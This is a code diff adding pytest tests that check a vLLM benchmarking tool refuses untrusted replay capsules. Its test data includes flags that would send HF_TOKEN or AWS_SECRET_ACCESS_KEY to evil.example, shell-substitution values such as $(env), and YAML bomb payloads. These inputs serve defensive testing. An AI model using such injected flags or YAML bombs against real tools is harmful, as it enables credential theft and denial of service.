@@ -9,10 +9,11 @@ from tests.submission.capsule.foreign_capsule import ENVIRON, HELP, MAIN, ROOT, 
 
 from cm4vllm.common.errors import UsageError
 from cm4vllm.records.vllm.options import stored_options
-from cm4vllm.results.capsule import CapsuleServer
+from cm4vllm.results.capsule import Capsule, CapsuleServer
 from cm4vllm.submission.capsule.capsules_at_path import capsules_at
 from cm4vllm.submission.capsule.consent import question, replayed
 from cm4vllm.submission.capsule.replay import replay_words
+from cm4vllm.submission.capsule.rerun_file import read_capsule
 from recipes import recipes
 
 DANGEROUS = [
@@ -296,3 +297,161 @@ def test_each_value_that_a_recipe_lists_is_taken():
 def renamed():
     text = (ROOT / "src/cm4vllm/records/vllm/renamed.yaml").read_text()
     return re.findall(r"option: --([\w-]+)", text)
+
+
+# --- the variables in a foreign capsule: they are filled only where the user names them
+
+
+@pytest.mark.parametrize(
+    "flag",
+    [
+        "--api_server=http://evil.example/${AWS_SECRET_ACCESS_KEY:?}",
+        "--api_server=http://${AWS_SECRET_ACCESS_KEY:?}.evil.example",
+        "--api_server=evil.example:80/${HF_TOKEN:?}",
+        "--api_server=http://localhost.evil.example/${HF_TOKEN:?}",
+        "--api_server=http://127.0.0.1:80@evil.example/${HF_TOKEN:?}",
+        "--api_server=http://127.0.0.1:8000,http://evil.example/${HF_TOKEN:?}",
+        "--vllm_index_url=https://${HF_TOKEN:?}@evil.example/simple/",
+        "--ray_address=evil.example:6379/${HF_TOKEN:?}",
+        "--extra_args=--otlp-traces-endpoint=http://evil.example/${HF_TOKEN:?}",
+        "--extra_args=--otlp-traces-endpoint evil.example:4317/${HF_TOKEN:?}",
+        "--env.HF_ENDPOINT=http://evil.example/${HF_TOKEN:?}",
+        "--adr.inference-src.tags=_repo.https://evil.example/${HF_TOKEN:?}",
+        "--inference_src=https://evil.example/${HF_TOKEN:?}.git",
+        "--api_server=${HF_TOKEN:?}",
+        "--served_model_name=${HF_TOKEN:?}",
+        "--dataset_path=${AWS_SECRET_ACCESS_KEY:?}",
+    ],
+)
+def test_a_variable_never_goes_into_the_address_of_a_stranger(flag):
+    name = re.search(r"\{(\w+)", flag)[1]
+    for consent in ({}, {"fill": [name], "accept": [flag[2:].partition("=")[0]]}):
+        with pytest.raises(UsageError) as refused:
+            words_of(flag, **consent)
+        assert ENVIRON[name] not in str(refused.value)
+    with pytest.raises(UsageError, match="is not filled into"):
+        words_of(flag, fill=[name], accept=[flag[2:].partition("=")[0]])
+
+
+def test_only_variables_that_the_user_names_are_filled():
+    flags = ("--dataset_path=${DATASET_PATH:?}", "--api_server=${API_SERVER:?}")
+    with pytest.raises(UsageError, match="asks for more") as refused:
+        words_of(*flags)
+    assert "has the variable DATASET_PATH, which --fill does not name" in refused.value.cause
+    assert refused.value.remedy.endswith("add to replay,mlperf: --fill=API_SERVER,DATASET_PATH")
+    with pytest.raises(UsageError):
+        words_of(*flags, fill=["DATASET_PATH"])
+    words = words_of(*flags, fill=["DATASET_PATH", "API_SERVER"])
+    assert {"--dataset_path=/data/cnn.json", "--api_server=http://gpu7:8000"} <= set(words)
+    with pytest.raises(UsageError) as refused:
+        words_of("--nltk_data=${NLTK_DATA:?}", fill=["NLTK_DATA"])
+    assert "NLTK_DATA, which has no value here" in refused.value.cause
+    assert "export NLTK_DATA=..." in refused.value.remedy
+    with pytest.raises(UsageError, match="has no variable HOME"):
+        words_of(*flags, fill=["HOME"])
+
+
+@pytest.mark.parametrize("form", ["$HF_TOKEN", "${HF_TOKEN}", "${HF_TOKEN:-x}", "$(env)", "`env`", "<<<HF_TOKEN>>>"])
+def test_other_forms_of_variables_are_no_value_that_is_taken(form):
+    for flag in ("served_model_name", "dataset_path", "hw_name", "vllm_version", "env.X"):
+        with pytest.raises(UsageError):
+            words_of(f"--{flag}={form}")
+    if "<" in form:
+        with pytest.raises(UsageError, match="is refused"):
+            words_of(f"--env.X={form}", accept=["env.X"])
+    else:
+        assert f"--env.X={form}" in words_of(f"--env.X={form}", accept=["env.X"])  # the text itself, unfilled
+
+
+def test_what_the_user_gives_is_the_users_address():
+    given = {"api_server": "http://gpu7/${HF_TOKEN:?}"}
+    with pytest.raises(UsageError, match="asks for more"):
+        words_of("--api_server=http://evil.example", given=given)
+    words = words_of("--api_server=http://evil.example", given=given, fill=["HF_TOKEN"])
+    assert "--api_server=http://gpu7/hub-token-value" in words and not [word for word in words if "evil" in word]
+
+
+@pytest.mark.parametrize("name", ["VLLM_API_KEY", "OPENAI_API_KEY"])
+def test_a_server_on_this_machine_gets_the_users_key_only_where_it_is_accepted(monkeypatch, name):
+    """Any user of the machine can listen at an address of it."""
+    flag = "--api_server=http://127.0.0.1:8000"
+    assert flag in words_of(flag)
+    monkeypatch.setitem(ENVIRON, name, "sk-user")
+    with pytest.raises(UsageError, match="asks for more") as refused:
+        words_of(flag)
+    assert f"the server there gets the key in {name}" in refused.value.cause and "sk-user" not in str(refused.value)
+    assert flag in words_of(flag, accept=["api_server"])
+    assert "--api_server=http://gpu7:8000" in words_of("--api_server=${API_SERVER:?}", fill=["API_SERVER"])
+    assert "--api_server=http://mine" in words_of(flag, given={"api_server": "http://mine"})
+
+
+def test_a_secret_that_is_named_goes_where_a_secret_is_expected():
+    flag = "--env.HF_TOKEN=${HF_TOKEN:?}"
+    assert "--env.HF_TOKEN=hub-token-value" in words_of(flag, fill=["HF_TOKEN"], accept=["env.HF_TOKEN"])
+    with pytest.raises(UsageError, match="asks for more") as refused:
+        words_of(flag, fill=["HF_TOKEN"])
+    assert "--accept=env.HF_TOKEN" in refused.value.remedy
+
+
+# --- rerun.yaml: files that are no capsule, or one of another schema, are refused with the remedy
+
+
+def test_a_file_that_is_no_capsule_is_refused(tmp_path):
+    for text in ("schema: 99\n", "- a\n", "a: [", "schema: 2\nround: 3\n", "schema: 2\nmodel: {}\nresults: 3\n"):
+        (tmp_path / "rerun.yaml").write_text(text)
+        with pytest.raises(UsageError, match="not a capsule"):
+            read_capsule(tmp_path / "rerun.yaml")
+    with pytest.raises(UsageError, match="cannot read"):
+        read_capsule(tmp_path / "none.yaml")
+
+
+@pytest.mark.parametrize(
+    ("text", "words"),
+    [
+        (None, "cannot read the capsule"),
+        ("\0", "is not a capsule"),
+        ("round: [", "is not a capsule"),
+        ("round: v6.1", "of this version"),
+        ("schema: {schema}\nround: 6", "is not a capsule"),
+    ],
+    ids=["missing", "binary", "cut", "of another version", "without its fields"],
+)
+def test_a_damaged_capsule_is_refused_with_what_to_do(text, words, tmp_path):
+    path = tmp_path / "rerun.yaml"
+    if text is not None:
+        path.write_text(text.format(schema=Capsule.SCHEMA))
+    with pytest.raises(UsageError, match=words) as refused:
+        read_capsule(path)
+    assert refused.value.cause and refused.value.remedy
+
+
+def test_a_capsule_of_the_schema_before_is_refused_by_its_number(tmp_path):
+    (tmp_path / "rerun.yaml").write_text("schema: 1\nround: v6.1\nruns: []\n")
+    with pytest.raises(UsageError, match="of this version") as refused:
+        read_capsule(tmp_path / "rerun.yaml")
+    assert refused.value.cause == "it has schema 1, this version reads schema 2"
+    assert "generate,mlperf,capsule" in refused.value.remedy
+
+
+def references(levels):
+    """Return YAML of some hundred bytes that stands for 2**levels values."""
+    return "p0: &p0 [x, x]\n" + "".join(f"p{n}: &p{n} [*p{n - 1}, *p{n - 1}]\n" for n in range(1, levels))
+
+
+@pytest.mark.parametrize(
+    ("text", "why"),
+    [
+        ("[" * 10**5, "nested too deep"),
+        ("- " * 10**5, "nested too deep"),
+        (references(30), "stands for more than 250,000 values"),
+        ("a: &a {b: *a}\n", "refers to a part of itself, or to none: *a"),
+        (f"a: {'9' * 6000}\n", "a number of 6,000 characters"),
+    ],
+    ids=["deep", "deep-list", "references", "loop", "number"],
+)
+def test_a_file_made_to_end_its_reader_is_refused(tmp_path, text, why):
+    """Before, libyaml overflowed its stack, which ended the process without a message."""
+    (tmp_path / "rerun.yaml").write_text(text)
+    with pytest.raises(UsageError, match="is not a capsule") as refused:
+        read_capsule(tmp_path / "rerun.yaml")
+    assert why in refused.value.cause
